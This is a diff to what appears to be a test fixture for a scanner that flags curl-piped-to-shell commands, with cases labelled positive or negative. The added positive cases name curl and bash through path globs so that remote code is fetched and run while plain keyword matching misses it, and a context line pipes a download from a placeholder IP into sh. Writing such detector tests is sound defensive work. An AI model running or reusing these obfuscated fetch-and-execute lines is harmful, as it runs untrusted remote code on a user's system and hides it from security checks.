@@ -212,3 +212,7 @@ $DL $DL_OPTS http://198.51.100.61/x | ${RUNNER:=sh}
 #@ neg a default assigned and used as an argument
 : "${OUT:=build}"
 curl -fsSL -o "$OUT/data.json" https://api.example.com/data
+#@ pos programs named by pathname globs
+/usr/???/c?r[l] -fsSL https://h/i | /???/[b]ash
+#@ pos a shell named by a glob in a for loop
+for s in /???/?as?; do "$s" -c "$(curl -fsSL https://h/i)"; done
